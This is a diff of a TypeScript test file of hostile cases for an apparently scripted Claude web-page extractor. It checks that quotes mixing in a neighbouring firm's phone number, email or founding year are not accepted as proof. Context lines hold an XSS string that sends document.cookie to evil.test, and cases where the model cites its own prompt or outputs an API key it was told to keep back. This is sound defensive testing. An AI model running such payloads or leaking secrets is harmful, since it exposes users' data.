@@ -1,5 +1,5 @@
 import { message, record } from './scripted-claude';
-import { OWN_PAGE, type HostileCase } from './stage';
+import { OWN_HTML, OWN_PAGE, type HostileCase } from './stage';
 
 const TRUE_QUOTE = 'The first house of the two brothers went up in 1987 and still stands in Austin.';
 const entry = (name: string, value: unknown, quote: unknown = TRUE_QUOTE, more: Record<string, unknown> = {}) => ({
@@ -14,6 +14,9 @@ const one = (title: string, answers: HostileCase['answers'], more: Partial<Hosti
 });
 
 const YEAR = entry('founded_year', '1987');
+const NEIGHBOUR = 'Quillbrook Homes of Waco, founded in 1951, answers at (254) 555-0133 or hello@quillbrook.test.';
+const BOTH =
+  'Sandmere Homes builds in Austin; Quillbrook Homes, founded in 1951, is at home in Waco and answers at (254) 555-0133.';
 /** Text of our own request. */
 const PROMPT = 'You read web pages and record what they state about one organisation.';
 const MARKUP = '<script>fetch("//evil.test/?"+document.cookie)</script><img src=x onerror=alert(1)>';
@@ -52,6 +55,22 @@ export const ANSWERS_ABOUT_THE_PAGE: readonly HostileCase[] = [
   ),
   one('a lender’s phone, truly on the page', fields(entry('phone', '(512) 555-0177', 'answers at (512) 555-0177'))),
   one('half a line of a neighbour', fields(entry('phone', '(254) 555-0133', '(254) 555-0133'))),
+  one(
+    'a quote that is half the page, with a neighbour’s phone in it',
+    fields(
+      entry(
+        'phone',
+        '(254) 555-0133',
+        ['Sandmere Homes', 'Sandmere Homes is a family firm. ' + TRUE_QUOTE, NEIGHBOUR].join('\n'),
+      ),
+      entry('email', 'hello@quillbrook.test', NEIGHBOUR),
+    ),
+  ),
+  one(
+    'a line that names both, with the other’s phone',
+    fields(entry('phone', '(254) 555-0133', BOTH), entry('founded_year', '1951', BOTH)),
+    { pages: { [OWN_PAGE]: OWN_HTML.replace('</body>', `<p>${BOTH}</p></body>`) }, neverProven: /2545550133|1951/ },
+  ),
   one('the prompt as its proof', fields(entry('about', PROMPT, PROMPT), entry('specialties', 'web pages', PROMPT))),
   one('what it was asked not to tell', fields(entry('about', 'ANTHROPIC_API_KEY=sk-ant-scripted', PROMPT))),
   one(
